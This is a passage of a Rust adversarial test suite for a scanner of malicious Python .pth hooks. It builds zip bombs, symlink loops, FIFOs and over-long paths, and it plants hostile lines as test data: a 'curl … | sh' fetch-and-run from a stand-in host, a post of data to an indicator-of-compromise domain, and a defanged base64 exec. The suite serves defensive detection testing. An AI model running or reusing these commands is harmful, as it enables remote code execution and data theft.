//! The adversarial suite: hostile inputs, each with the outcome a user relies on — a finding,
//! or a problem naming the path and the reason — while the scan goes on (a canary hook planted
//! beside every case is still found), under a hang guard and a peak-memory bound.

use std::ffi::{CString, OsStr};
use std::io::Write;
use std::os::unix::ffi::OsStrExt;
use std::os::unix::fs::{PermissionsExt, symlink};
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

use crate::util::*;

/// Peak resident memory a scan may reach, whatever the input.
const MAX_RSS_KB: i64 = 150 * 1024;
/// A scan still running after this has hung: a guard, not a speed target (those are in
/// `benches/`).
const HANG_GUARD: Duration = Duration::from_secs(240);

const SP: &str = "venv/lib/python3.12/site-packages";
pub(crate) const EXEC_LINE: &[u8] = b"import os; os.system('curl -s http://x.invalid | sh')\n";

/// What a case must produce.
#[derive(Debug, Clone, Copy)]
enum Outcome {
    /// A finding of this rule on a path ending so.
    Finding(&'static str, &'static str),
    /// The same, on this line.
    FindingAt(&'static str, &'static str, u64),
    /// A problem (diagnostic) whose path ends so and whose message contains this.
    Problem(&'static str, &'static str),
    /// Exactly one finding of this rule on a path ending so (a layer listed many times).
    Once(&'static str, &'static str),
    /// No finding and no problem beyond the canary.
    Nothing,
}
use Outcome::*;

struct Case {
    name: &'static str,
    /// Builds the hostile input under the directory, with `venv/` ready at [`SP`]; returns a
    /// thread to stop and join once the scan is over (for files that change under the scan).
    build: fn(&Path) -> Option<Churn>,
    args: &'static [&'static str],
    expect: &'static [Outcome],
    /// Run as an unprivileged user (permission cases; root reads everything).
    unprivileged: bool,
}

struct Churn {
    stop: std::sync::Arc<std::sync::atomic::AtomicBool>,
    thread: std::thread::JoinHandle<usize>,
}

struct Run {
    json: serde_json::Value,
    code: i32,
    stderr: String,
    max_rss_kb: i64,
}

fn sp(dir: &Path) -> PathBuf {
    dir.join(SP)
}

/// Runs the binary with the report written to a file (no pipe to fill), under GNU time for
/// its peak memory, killing it past the hang guard. (The peak is read by `time`, a small
/// process that forks pthscan: a child forked from this test process would start with the
/// test's own high-water mark.)
#[expect(
    clippy::print_stderr,
    reason = "each case's peak is shown with --nocapture, for the before/after table"
)]
fn run_bounded(args: &[String], unprivileged: bool) -> Run {
    use std::os::unix::process::CommandExt;
    let out = tempfile::tempdir().unwrap();
    std::fs::set_permissions(out.path(), std::fs::Permissions::from_mode(0o777)).unwrap();
    let report = out.path().join("report.json");
    let errors = out.path().join("stderr");
    let peak = out.path().join("peak");
    let as_nobody = unprivileged && is_root();
    let mut binary = bin();
    if as_nobody {
        // the build directory may sit in root's home, which nobody cannot enter
        let copy = out.path().join("pthscan");
        std::fs::copy(&binary, &copy).unwrap();
        std::fs::set_permissions(&copy, std::fs::Permissions::from_mode(0o755)).unwrap();
        binary = copy;
    }
    let mut cmd = Command::new("/usr/bin/time");
    cmd.args(["-f", "%M", "-o"])
        .arg(&peak)
        .arg(&binary)
        .args(args)
        .args(["--format", "json", "--output"])
        .arg(&report)
        .env("NO_COLOR", "1")
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(std::fs::File::create(&errors).unwrap())
        .process_group(0);
    if as_nobody {
        cmd.uid(65534).gid(65534);
    }
    let mut child = cmd
        .spawn()
        .expect("run pthscan under /usr/bin/time (GNU time)");
    let started = Instant::now();
    let status = loop {
        if let Some(status) = child.try_wait().unwrap() {
            break status;
        }
        if started.elapsed() > HANG_GUARD {
            let group = format!("-{}", child.id());
            let _ = Command::new("kill").args(["-KILL", "--", &group]).status();
            panic!("pthscan {args:?} still running after {HANG_GUARD:?}: hung");
        }
        std::thread::sleep(Duration::from_millis(10));
    };
    let stderr = std::fs::read_to_string(&errors).unwrap_or_default();
    let code = status.code().unwrap_or(-1);
    let peak = std::fs::read_to_string(&peak).unwrap();
    let max_rss_kb: i64 = peak.trim().lines().last().unwrap().parse().unwrap();
    eprintln!("peak RSS {max_rss_kb} KB, exit {code}");
    assert!(
        (0..=2).contains(&code),
        "pthscan {args:?} died (exit {code}): {stderr}"
    );
    let text = std::fs::read(&report)
        .unwrap_or_else(|e| panic!("no report from {args:?} ({e}): {stderr}"));
    Run {
        json: serde_json::from_slice(&text).expect("a JSON report"),
        code,
        stderr,
        max_rss_kb,
    }
}

#[expect(unsafe_code, reason = "geteuid has no safe wrapper in std")]
fn is_root() -> bool {
    // SAFETY: no arguments, cannot fail
    unsafe { libc::geteuid() == 0 }
}

/// Makes `depth` nested directories named `name` under `dir` with `mkdirat`/`openat`, since
/// their path outgrows PATH_MAX; calls `at_bottom` with a descriptor of the deepest one.
#[expect(unsafe_code, reason = "mkdirat/openat: paths longer than PATH_MAX")]
fn nest(dir: &Path, name: &str, depth: usize, at_bottom: impl FnOnce(libc::c_int)) {
    let cname = CString::new(name).unwrap();
    let top = CString::new(dir.as_os_str().as_bytes()).unwrap();
    // SAFETY: valid C strings; every descriptor is closed below
    unsafe {
        let mut fd = libc::open(top.as_ptr(), libc::O_DIRECTORY | libc::O_RDONLY);
        assert!(fd >= 0);
        for _ in 0..depth {
            assert_eq!(libc::mkdirat(fd, cname.as_ptr(), 0o755), 0, "mkdirat");
            let next = libc::openat(fd, cname.as_ptr(), libc::O_DIRECTORY | libc::O_RDONLY);
            assert!(next >= 0, "openat");
            libc::close(fd);
            fd = next;
        }
        at_bottom(fd);
        libc::close(fd);
    }
}

/// Writes a venv with an executable hook below the directory `fd` (relative names).
#[expect(
    unsafe_code,
    reason = "openat/write: below a path longer than PATH_MAX"
)]
fn venv_at(fd: libc::c_int) {
    let mut dir = fd;
    for part in ["venv", "lib", "python3.12", "site-packages"] {
        let c = CString::new(part).unwrap();
        // SAFETY: valid C strings and descriptors
        unsafe {
            assert_eq!(libc::mkdirat(dir, c.as_ptr(), 0o755), 0);
            let next = libc::openat(dir, c.as_ptr(), libc::O_DIRECTORY | libc::O_RDONLY);
            assert!(next >= 0);
            if part == "venv" {
                write_at(next, "pyvenv.cfg", b"version = 3.12.4\n");
            }
            if dir != fd {
                libc::close(dir);
            }
            dir = next;
        }
    }
    write_at(dir, "deep.pth", EXEC_LINE);
    // SAFETY: our descriptor
    unsafe { libc::close(dir) };
}

#[expect(unsafe_code, reason = "openat/write relative to a descriptor")]
fn write_at(dir: libc::c_int, name: &str, data: &[u8]) {
    let c = CString::new(name).unwrap();
    // SAFETY: valid C string, descriptor and buffer
    unsafe {
        let fd = libc::openat(
            dir,
            c.as_ptr(),
            libc::O_WRONLY | libc::O_CREAT | libc::O_TRUNC,
            0o644,
        );
        assert!(fd >= 0);
        assert_eq!(
            libc::write(fd, data.as_ptr().cast(), data.len()),
            data.len() as isize
        );
        libc::close(fd);
    }
}

#[expect(unsafe_code, reason = "mknod has no safe wrapper in std")]
fn mknod_char(path: &Path) -> bool {
    let c = CString::new(path.as_os_str().as_bytes()).unwrap();
    // SAFETY: valid C string; /dev/null's numbers
    unsafe { libc::mknod(c.as_ptr(), libc::S_IFCHR | 0o644, libc::makedev(1, 3)) == 0 }
}

fn mkfifo(path: &Path) {
    assert!(Command::new("mkfifo").arg(path).status().unwrap().success());
}

fn write(path: &Path, data: &[u8]) {
    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
    std::fs::write(path, data).unwrap();
}

/// A zip of `n` stored members, written straight to disk (the zip crate's writer would hold a
/// million entries in memory).
fn many_member_zip(path: &Path, n: usize) {
    let mut out = std::io::BufWriter::new(std::fs::File::create(path).unwrap());
    let mut central = Vec::new();
    let mut offset = 0u32;
    for i in 0..n {
        let name = format!("m/{i}.py");
        let local = [
            &b"PK\x03\x04"[..],
            &[20, 0, 0, 0, 0, 0, 0, 0, 0, 0],
            &0u32.to_le_bytes(), // crc of nothing
            &0u32.to_le_bytes(),
            &0u32.to_le_bytes(),
            &(name.len() as u16).to_le_bytes(),
            &0u16.to_le_bytes(),
            name.as_bytes(),
        ]
        .concat();
        out.write_all(&local).unwrap();
        central.extend_from_slice(b"PK\x01\x02");
        central.extend_from_slice(&[20, 3, 20, 0, 0, 0, 0, 0, 0, 0, 0, 0]);
        central.extend_from_slice(&[0u8; 12]); // crc, sizes
        central.extend_from_slice(&(name.len() as u16).to_le_bytes());
        central.extend_from_slice(&[0u8; 8]); // extra, comment, disk, internal attrs
        central.extend_from_slice(&0u32.to_le_bytes()); // external attrs
        central.extend_from_slice(&offset.to_le_bytes());
        central.extend_from_slice(name.as_bytes());
        offset += local.len() as u32;
    }
    out.write_all(&central).unwrap();
    // zip64 end records: more than 65,535 entries
    let zip64_at = u64::from(offset) + central.len() as u64;
    out.write_all(b"PK\x06\x06").unwrap();
    out.write_all(&44u64.to_le_bytes()).unwrap();
    out.write_all(&[45, 3, 45, 0]).unwrap();
    out.write_all(&[0u8; 8]).unwrap(); // disk numbers
    out.write_all(&(n as u64).to_le_bytes()).unwrap();
    out.write_all(&(n as u64).to_le_bytes()).unwrap();
    out.write_all(&(central.len() as u64).to_le_bytes())
        .unwrap();
    out.write_all(&u64::from(offset).to_le_bytes()).unwrap();
    out.write_all(b"PK\x06\x07").unwrap();
    out.write_all(&0u32.to_le_bytes()).unwrap();
    out.write_all(&zip64_at.to_le_bytes()).unwrap();
    out.write_all(&1u32.to_le_bytes()).unwrap();
    out.write_all(b"PK\x05\x06").unwrap();
    out.write_all(&[0, 0, 0, 0, 0xff, 0xff, 0xff, 0xff])
        .unwrap();
    out.write_all(&[0xff; 8]).unwrap();
    out.write_all(&[0, 0]).unwrap();
    out.flush().unwrap();
}

/// A deflated member of `size` zero bytes: about 1,000 to 1.
fn zeros_zip(name: &str, size: usize) -> Vec<u8> {
    let mut w = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    w.start_file(name, zip::write::SimpleFileOptions::default())
        .unwrap();
    let chunk = vec![0u8; 1 << 20];
    for _ in 0..size >> 20 {
        w.write_all(&chunk).unwrap();
    }
    w.finish().unwrap().into_inner()
}

/// `size` zero bytes as a raw deflate stream (about 1,000 to 1), with their CRC-32.
pub(crate) fn deflated_zeros(size: usize) -> (Vec<u8>, u32) {
    let mut e = flate2::write::DeflateEncoder::new(Vec::new(), flate2::Compression::best());
    let mut crc = flate2::Crc::new();
    let chunk = vec![0u8; 1 << 20];
    for _ in 0..size >> 20 {
        e.write_all(&chunk).unwrap();
        crc.update(&chunk);
    }
    (e.finish().unwrap(), crc.sum())
}

/// A zip written by hand, so that central entries can share local headers: each local member
/// (name, deflated body, CRC, size) in order, then one central entry per (central name, index
/// of the local member it points at).
pub(crate) fn hand_zip(locals: &[(&str, &[u8], u32, u64)], central: &[(&str, usize)]) -> Vec<u8> {
    let mut out = Vec::new();
    let mut offsets = Vec::new();
    for (name, body, crc, size) in locals {
        offsets.push(out.len() as u32);
        out.extend_from_slice(b"PK\x03\x04");
        out.extend_from_slice(&[20, 0, 0, 0, 8, 0, 0, 0, 0, 0]);
        out.extend_from_slice(&crc.to_le_bytes());
        out.extend_from_slice(&(body.len() as u32).to_le_bytes());
        out.extend_from_slice(&(*size as u32).to_le_bytes());
        out.extend_from_slice(&(name.len() as u16).to_le_bytes());
        out.extend_from_slice(&0u16.to_le_bytes());
        out.extend_from_slice(name.as_bytes());
        out.extend_from_slice(body);
    }
    let at = out.len() as u32;
    let mut cd = Vec::new();
    for (name, local) in central {
        let (_, body, crc, size) = locals[*local];
        cd.extend_from_slice(b"PK\x01\x02");
        cd.extend_from_slice(&[20, 3, 20, 0, 0, 0, 8, 0, 0, 0, 0, 0]);
        cd.extend_from_slice(&crc.to_le_bytes());
        cd.extend_from_slice(&(body.len() as u32).to_le_bytes());
        cd.extend_from_slice(&(size as u32).to_le_bytes());
        cd.extend_from_slice(&(name.len() as u16).to_le_bytes());
        cd.extend_from_slice(&[0u8; 8]);
        cd.extend_from_slice(&(0o100644u32 << 16).to_le_bytes());
        cd.extend_from_slice(&offsets[*local].to_le_bytes());
        cd.extend_from_slice(name.as_bytes());
    }
    out.extend_from_slice(&cd);
    out.extend_from_slice(b"PK\x05\x06");
    out.extend_from_slice(&[0; 4]);
    out.extend_from_slice(&(central.len() as u16).to_le_bytes());
    out.extend_from_slice(&(central.len() as u16).to_le_bytes());
    out.extend_from_slice(&(cd.len() as u32).to_le_bytes());
    out.extend_from_slice(&at.to_le_bytes());
    out.extend_from_slice(&[0; 2]);
    out
}

/// A 2 MB wheel of 40 members of 50 MiB of zeros each, written to `path`.
fn zeros_wheel(path: &Path) {
    let (body, crc) = deflated_zeros(50 << 20);
    let names: Vec<String> = (0..40).map(|i| format!("zeros/m{i}.py")).collect();
    let locals: Vec<(&str, &[u8], u32, u64)> = names
        .iter()
        .map(|n| (n.as_str(), &body[..], crc, 50 << 20))
        .collect();
    let central: Vec<(&str, usize)> = names
        .iter()
        .enumerate()
        .map(|(i, n)| (n.as_str(), i))
        .collect();
    write(path, &hand_zip(&locals, &central));
}

/// An sdist whose `setup.py` is named by a PAX `path` record of `len` bytes (`x/x/x/…`): a
/// few hundred bytes once compressed.
pub(crate) fn pax_path_sdist(len: usize) -> Vec<u8> {
    let path: String = "x/".repeat(len / 2);
    let body = format!(" path={path}\n");
    // the record's length counts its own digits
    let mut total = body.len() + 1;
    while total.to_string().len() + body.len() != total {
        total = total.to_string().len() + body.len();
    }
    let record = format!("{total}{body}");
    let mut b = tar::Builder::new(Vec::new());
    let mut h = tar::Header::new_ustar();
    h.set_path("PaxHeaders/setup.py").unwrap();
    h.set_entry_type(tar::EntryType::XHeader);
    h.set_size(record.len() as u64);
    h.set_mode(0o644);
    h.set_cksum();
    b.append(&h, record.as_bytes()).unwrap();
    let mut h = tar::Header::new_ustar();
    h.set_path("pkg-1.0/setup.py").unwrap();
    h.set_size(EXEC_LINE.len() as u64);
    h.set_mode(0o644);
    h.set_cksum();
    b.append(&h, EXEC_LINE).unwrap();
    gzip(&b.into_inner().unwrap())
}

/// `len` incompressible bytes: an archive member that is as large stored as unpacked.
fn noise(len: usize) -> Vec<u8> {
    let mut x: u64 = 0x9e37_79b9_7f4a_7c15;
    (0..len)
        .map(|_| {
            x ^= x << 13;
            x ^= x >> 7;
            x ^= x << 17;
            x as u8
        })
        .collect()
}

/// One zstd frame holding `data` in raw blocks (RFC 8878; no compressor needed to write it).
fn raw_zstd_frame(data: &[u8]) -> Vec<u8> {
    // magic; single segment with a 4-byte content size
    let mut f = vec![0x28, 0xb5, 0x2f, 0xfd, 0xa0];
    f.extend((data.len() as u32).to_le_bytes());
    let chunks: Vec<&[u8]> = data.chunks(128 << 10).collect();
    for (i, chunk) in chunks.iter().enumerate() {
        let last = u32::from(i + 1 == chunks.len());
        let header = last | ((chunk.len() as u32) << 3);
        f.extend(&header.to_le_bytes()[..3]);
        f.extend(*chunk);
    }
    f
}

/// A defanged payload the payload rules judge high wherever it lies: decoded code executed.
const PAYLOAD: &[u8] = b"import base64\nexec(base64.b64decode('cHJpbnQoJ2RlZmFuZ2VkJyk='))\n";

/// One image layer: a system site directory with an executable hook, and a wheel with
/// another in root's pip cache.
fn hook_layer() -> Vec<u8> {
    let wheel = zip_of(&[("evil_init.pth", EXEC_LINE)]);
    tar_of(&[
        ("usr/local/lib/python3.12/os.py", b"# os\n"),
        (
            "usr/local/lib/python3.12/site-packages/layer.pth",
            EXEC_LINE,
        ),
        (
            "root/.cache/pip/wheels/ab/cd/evil-1.0-py3-none-any.whl",
            &wheel,
        ),
    ])
}

/// A `docker save` tarball written to `path` (gzip-compressed when it ends so): `manifest`
/// names the members, which are `members`, plus `junk` JSON documents of `junk_size` bytes
/// each, streamed so that the test never holds them.
fn docker_save(
    path: &Path,
    manifest: &serde_json::Value,
    members: &[(&str, &[u8])],
    junk: usize,
    junk_size: usize,
) {
    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
    let file = std::io::BufWriter::new(std::fs::File::create(path).unwrap());
    let out: Box<dyn Write> = if path.to_string_lossy().ends_with(".gz") {
        Box::new(flate2::write::GzEncoder::new(
            file,
            flate2::Compression::fast(),
        ))
    } else {
        Box::new(file)
    };
    let mut b = tar::Builder::new(out);
    let add = |b: &mut tar::Builder<Box<dyn Write>>,
               name: &str,
               size: u64,
               data: &mut dyn std::io::Read| {
        let mut h = tar::Header::new_gnu();
        h.set_size(size);
        h.set_mode(0o644);
        b.append_data(&mut h, name, data).unwrap();
    };
    let manifest = serde_json::to_vec(manifest).unwrap();
    add(
        &mut b,
        "manifest.json",
        manifest.len() as u64,
        &mut &manifest[..],
    );
    for (name, data) in members {
        add(&mut b, name, data.len() as u64, &mut &data[..]);
    }
    // a numbered line every KiB: about 100 to 1 compressed, under the ratio that makes a bomb
    let mut doc = b"{\"a\":\"".to_vec();
    let mut line = 0;
    while doc.len() + 1024 < junk_size {
        doc.extend_from_slice(format!("{line:08}").as_bytes());
        doc.resize(doc.len() + 1016, b'x');
        line += 1;
    }
    doc.resize(junk_size.saturating_sub(2), b'x');
    doc.extend_from_slice(b"\"}");
    for i in 0..junk {
        add(
            &mut b,
            &format!("{i:064x}.json"),
            doc.len() as u64,
            &mut &doc[..],
        );
    }
    b.into_inner().unwrap().flush().unwrap();
}

/// An OCI image tar at `path`: `oci-layout`, `index` as `index.json`, and `blobs` by digest.
fn oci_tar(path: &Path, index: &serde_json::Value, blobs: &[(String, Vec<u8>)]) {
    let index = serde_json::to_vec(index).unwrap();
    let mut members: Vec<(String, &[u8])> = vec![
        (
            "oci-layout".into(),
            &b"{\"imageLayoutVersion\": \"1.0.0\"}"[..],
        ),
        ("index.json".into(), &index[..]),
    ];
    for (digest, data) in blobs {
        members.push((format!("blobs/{}", digest.replacen(':', "/", 1)), data));
    }
    let refs: Vec<(&str, &[u8])> = members.iter().map(|(n, d)| (n.as_str(), *d)).collect();
    write(path, &tar_of(&refs));
}

/// A tarball that is both a `docker save` and an OCI archive, as Docker 25 and later write
/// them: `oci-layout`, `index`, `manifest` as `manifest.json`, and `blobs` by digest.
fn dual_tar(
    path: &Path,
    manifest: &serde_json::Value,
    index: &serde_json::Value,
    blobs: &[(String, Vec<u8>)],
) {
    let manifest = serde_json::to_vec(manifest).unwrap();
    let index = serde_json::to_vec(index).unwrap();
    let mut members: Vec<(String, &[u8])> = vec![
        (
            "oci-layout".into(),
            &b"{\"imageLayoutVersion\": \"1.0.0\"}"[..],
        ),
        ("index.json".into(), &index[..]),
        ("manifest.json".into(), &manifest[..]),
    ];
    for (digest, data) in blobs {
        members.push((format!("blobs/{}", digest.replacen(':', "/", 1)), data));
    }
    let refs: Vec<(&str, &[u8])> = members.iter().map(|(n, d)| (n.as_str(), *d)).collect();
    write(path, &tar_of(&refs));
}

/// An image layer whose package `hookpkg` (imported by `hookpkg.pth`) is a hard link: to the
/// payload through `alias -> .` when `through_symlink`, else to the symlink `lnk -> ../_payload.py`.
fn hard_link_layer(through_symlink: bool) -> Vec<u8> {
    let site = "usr/local/lib/python3.12/site-packages";
    let mut b = tar::Builder::new(Vec::new());
    let file = |b: &mut tar::Builder<Vec<u8>>, name: &str, data: &[u8]| {
        let mut h = tar::Header::new_gnu();
        h.set_size(data.len() as u64);
        h.set_mode(0o644);
        b.append_data(&mut h, format!("{site}/{name}"), data)
            .unwrap();
    };
    file(&mut b, "_payload.py", PAYLOAD);
    let link = |b: &mut tar::Builder<Vec<u8>>, kind, name: &str, target: &str| {
        let mut h = tar::Header::new_gnu();
        h.set_entry_type(kind);
        h.set_size(0);
        h.set_mode(0o777);
        b.append_link(&mut h, format!("{site}/{name}"), target)
            .unwrap();
    };
    link(&mut b, tar::EntryType::Symlink, "alias", ".");
    // relative to where the link ends up: the hard link's directory, `hookpkg/`
    link(&mut b, tar::EntryType::Symlink, "lnk", "../_payload.py");
    let target = if through_symlink {
        format!("{site}/alias/_payload.py")
    } else {
        format!("{site}/lnk")
    };
    link(&mut b, tar::EntryType::Link, "hookpkg/__init__.py", &target);
    file(&mut b, "hookpkg.pth", b"import hookpkg\n");
    b.into_inner().unwrap()
}

/// A fake digest, `n` in hex.
fn digest(n: usize) -> String {
    format!("sha256:{n:064x}")
}

const INDEX: &str = "application/vnd.oci.image.index.v1+json";

fn churn(dir: &Path, step: fn(&Path, usize)) -> Option<Churn> {
    let stop = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
    let flag = std::sync::Arc::clone(&stop);
    let dir = dir.to_path_buf();
    let thread = std::thread::spawn(move || {
        let mut i = 0;
        while !flag.load(std::sync::atomic::Ordering::Relaxed) {
            step(&dir, i);
            i += 1;
        }
        i
    });
    Some(Churn { stop, thread })
}

const CASES: &[Case] = &[
    Case {
        name: "zip bomb: a wheel whose member inflates 1000 to 1",
        build: |d| {
            write(
                &d.join("w/bomb-1.0-py3-none-any.whl"),
                &zeros_zip("bomb/data.py", 2048 << 20),
            );
            None
        },
        args: &[],
        expect: &[Problem("bomb-1.0-py3-none-any.whl › bomb/data.py", "bomb")],
        unprivileged: false,
    },
    Case {
        name: "nested bomb: zips of bombs inside a zip",
        build: |d| {
            let inner = zeros_zip("x.py", 512 << 20);
            let middle: Vec<(String, Vec<u8>)> = (0..8)
                .map(|i| (format!("b{i}.zip"), inner.clone()))
                .collect();
            let refs: Vec<(&str, &[u8])> = middle
                .iter()
                .map(|(n, b)| (n.as_str(), b.as_slice()))
                .collect();
            let mid = zip_of(&refs);
            write(
                &d.join("w/nested.zip"),
                &zip_of(&[("a.zip", &mid), ("b.zip", &mid)]),
            );
            None
        },
        args: &[],
        expect: &[Problem("nested.zip › a.zip › b0.zip › x.py", "bomb")],
        unprivileged: false,
    },
    Case {
        name: "a million-member zip",
        build: |d| {
            std::fs::create_dir_all(d.join("w")).unwrap();
            many_member_zip(&d.join("w/many.zip"), 1_000_000);
            None
        },
        args: &[],
        expect: &[Problem(
            "many.zip",
            "declares 1000000 members, more than the limit",
        )],
        unprivileged: false,
    },
    Case {
        name: "a 100,000-file site-packages with one evil hook",
        build: |d| {
            let pkg = sp(d).join("big");
            std::fs::create_dir_all(&pkg).unwrap();
            for i in 0..100_000 {
                std::fs::write(pkg.join(format!("m{i}.py")), b"x = 1\n").unwrap();
            }
            write(&sp(d).join("evil.pth"), EXEC_LINE);
            None
        },
        args: &["--deep"],
        expect: &[Finding("PTH001", "site-packages/evil.pth")],
        unprivileged: false,
    },
    Case {
        name: "10,000 levels of directories",
        build: |d| {
            nest(d, "d", 10_000, |_| {});
            None
        },
        args: &[],
        expect: &[Problem("/d/d/d", "file name too long")],
        unprivileged: false,
    },
    Case {
        name: "a venv under a path of about 4 KB (255-byte names)",
        build: |d| {
            // 15 × 256 bytes: under PATH_MAX, still found
            nest(d, &"n".repeat(255), 15, venv_at);
            None
        },
        args: &[],
        expect: &[Finding("PTH001", "site-packages/deep.pth")],
        unprivileged: false,
    },
    Case {
        name: "a venv under a path longer than PATH_MAX",
        build: |d| {
            nest(d, &"n".repeat(255), 17, venv_at);
            None
        },
        args: &[],
        expect: &[Problem("nnnnnnnnnn", "file name too long")],
        unprivileged: false,
    },
    Case {
        name: "a 255-byte hook name",
        build: |d| {
            write(&sp(d).join(format!("{}.pth", "h".repeat(251))), EXEC_LINE);
            None
        },
        args: &[],
        expect: &[Finding("PTH001", "hhhhhhhh.pth")],
        unprivileged: false,
    },
    Case {
        name: "a hook whose name is not UTF-8",
        build: |d| {
            write(
                &sp(d).join(OsStr::from_bytes(b"\xff\xfe\x80.pth")),
                EXEC_LINE,
            );
            None
        },
        args: &[],
        expect: &[Finding("PTH001", "/\\xff\\xfe\\x80.pth")],
        unprivileged: false,
    },
    Case {
        name: "a venv in a directory whose name is not UTF-8",
        build: |d| {
            let root = d.join(OsStr::from_bytes(b"proj\xc3\x28"));
            write(&root.join("venv/pyvenv.cfg"), b"version = 3.12.4\n");
            write(&root.join(SP).join("x.pth"), EXEC_LINE);
            None
        },
        args: &[],
        expect: &[Finding("PTH001", "site-packages/x.pth")],
        unprivileged: false,
    },
    Case {
        name: "a symlink loop named as a hook",
        build: |d| {
            symlink("b.pth", sp(d).join("a.pth")).unwrap();
            symlink("a.pth", sp(d).join("b.pth")).unwrap();
            None
        },
        args: &[],
        expect: &[
            Problem("a.pth", "symlink loop"),
            Problem("b.pth", "symlink loop"),
        ],
        unprivileged: false,
    },
    Case {
        name: "a directory symlink loop inside site-packages (--deep)",
        build: |d| {
            symlink("..", sp(d).join("up")).unwrap();
            symlink(".", sp(d).join("here")).unwrap();
            write(&sp(d).join("pkg/__init__.py"), b"import os\n");
            None
        },
        args: &["--deep"],
        expect: &[Nothing],
        unprivileged: false,
    },
    Case {
        name: "a hook linking out of the scanned tree",
        build: |d| {
            symlink("/etc/passwd", sp(d).join("out.pth")).unwrap();
            None
        },
        args: &[],
        expect: &[Problem("out.pth", "leads outside the scanned root")],
        unprivileged: false,
    },
    Case {
        name: "a FIFO named as a hook",
        build: |d| {
            mkfifo(&sp(d).join("fifo.pth"));
            None
        },
        args: &[],
        expect: &[Problem("fifo.pth", "not a regular file (FIFO)")],
        unprivileged: false,
    },
    Case {
        name: "a FIFO named sitecustomize.py",
        build: |d| {
            mkfifo(&sp(d).join("sitecustomize.py"));
            None
        },
        args: &[],
        expect: &[Problem("sitecustomize.py", "not a regular file (FIFO)")],
        unprivileged: false,
    },
    Case {
        name: "a FIFO among the files of a --deep scan",
        build: |d| {
            mkfifo(&sp(d).join("pipe.py"));
            None
        },
        args: &["--deep"],
        expect: &[Problem("pipe.py", "not a regular file (FIFO)")],
        unprivileged: false,
    },
    Case {
        name: "a socket named as a hook",
        build: |d| {
            let l = std::os::unix::net::UnixListener::bind(sp(d).join("sock.pth")).unwrap();
            std::mem::forget(l);
            None
        },
        args: &[],
        expect: &[Problem("sock.pth", "not a regular file (socket)")],
        unprivileged: false,
    },
    Case {
        name: "a device node named as a hook (or a FIFO where mknod is not allowed)",
        build: |d| {
            if !mknod_char(&sp(d).join("dev.pth")) {
                mkfifo(&sp(d).join("dev.pth"));
            }
            None
        },
        args: &[],
        expect: &[Problem("dev.pth", "not a regular file")],
        unprivileged: false,
    },
    Case {
        name: "an unreadable hook",
        build: |d| {
            write(&sp(d).join("locked.pth"), EXEC_LINE);
            std::fs::set_permissions(
                sp(d).join("locked.pth"),
                std::fs::Permissions::from_mode(0o000),
            )
            .unwrap();
            None
        },
        args: &[],
        expect: &[Problem("locked.pth", "permission denied")],
        unprivileged: true,
    },
    Case {
        name: "an unreadable site-packages",
        build: |d| {
            write(&sp(d).join("x.pth"), EXEC_LINE);
            std::fs::set_permissions(sp(d), std::fs::Permissions::from_mode(0o000)).unwrap();
            None
        },
        args: &[],
        expect: &[Problem("site-packages", "permission denied")],
        unprivileged: true,
    },
    Case {
        // discovery does not enter site directories: the integrity check's walk reports it
        name: "an unreadable package directory",
        build: |d| {
            write(&sp(d).join("pkg/__init__.py"), b"x = 1\n");
            std::fs::set_permissions(sp(d).join("pkg"), std::fs::Permissions::from_mode(0o000))
                .unwrap();
            None
        },
        args: &[],
        expect: &[Problem("site-packages/pkg", "permission denied")],
        unprivileged: true,
    },
    Case {
        name: "an unreadable package directory (--deep)",
        build: |d| {
            write(&sp(d).join("pkg/__init__.py"), b"x = 1\n");
            std::fs::set_permissions(sp(d).join("pkg"), std::fs::Permissions::from_mode(0o000))
                .unwrap();
            None
        },
        args: &["--deep"],
        expect: &[Problem("site-packages/pkg", "permission denied")],
        unprivileged: true,
    },
    Case {
        name: "a 50 GB sparse hook",
        build: |d| {
            let f = std::fs::File::create(sp(d).join("sparse.pth")).unwrap();
            f.set_len(50 << 30).unwrap();
            None
        },
        args: &[],
        expect: &[Problem("sparse.pth", "larger than the")],
        unprivileged: false,
    },
    Case {
        name: "a 50 GB sparse extension module (--deep)",
        build: |d| {
            let f = std::fs::File::create(sp(d).join("huge.so")).unwrap();
            f.set_len(50 << 30).unwrap();
            None
        },
        args: &["--deep"],
        expect: &[Problem("huge.so", "judged its first")],
        unprivileged: false,
    },
    Case {
        name: "a 100 MB single-line hook",
        build: |d| {
            let mut line = b"import os; os.system('id') #".to_vec();
            line.resize(100 << 20, b'A');
            write(&sp(d).join("long.pth"), &line);
            None
        },
        args: &[],
        expect: &[
            Finding("PTH001", "long.pth"),
            Problem("long.pth", "larger than the"),
        ],
        unprivileged: false,
    },
    Case {
        name: "a 100 MB module read whole (--deep, raised cap): payload near its end",
        build: |d| {
            // 2,100,000 lines of 50 bytes (100 MiB), then the payload on line 2,100,001
            let line = format!("{:<49}\n", "value = compute(value) + 1  # padding");
            let mut text = line.repeat(2_100_000).into_bytes();
            text.extend_from_slice(b"requests.post('https://models.litellm.cloud/', data=blob)\n");
            write(&sp(d).join("pkg/big.py"), &text);
            None
        },
        args: &["--deep", "--max-file-size", "209715200"],
        expect: &[FindingAt(
            "ioc-net-models-litellm-cloud",
            "pkg/big.py",
            2_100_001,
        )],
        unprivileged: false,
    },
    Case {
        name: "a UTF-16 hook (CPython cannot run it: NUL bytes)",
        build: |d| {
            let mut data = vec![0xff, 0xfe];
            for c in "import os; os.system('id')\n".encode_utf16() {
                data.extend_from_slice(&c.to_le_bytes());
            }
            write(&sp(d).join("wide.pth"), &data);
            None
        },
        args: &[],
        expect: &[FindingAt("PTH004", "wide.pth", 1)],
        unprivileged: false,
    },
    Case {
        name: "a UTF-16 sitecustomize.py",
        build: |d| {
            let mut data = vec![0xff, 0xfe];
            for c in "import os; os.system('id')\n".encode_utf16() {
                data.extend_from_slice(&c.to_le_bytes());
            }
            write(&sp(d).join("sitecustomize.py"), &data);
            None
        },
        args: &[],
        expect: &[Finding("CUS001", "sitecustomize.py")],
        unprivileged: false,
    },
    Case {
        name: "a hook of invalid UTF-8 (runs on 3.13+ only)",
        build: |d| {
            write(
                &sp(d).join("latin.pth"),
                b"caf\xe9\nimport os; os.system('id')\n",
            );
            None
        },
        args: &[],
        expect: &[Finding("PTH001", "latin.pth")],
        unprivileged: false,
    },
    Case {
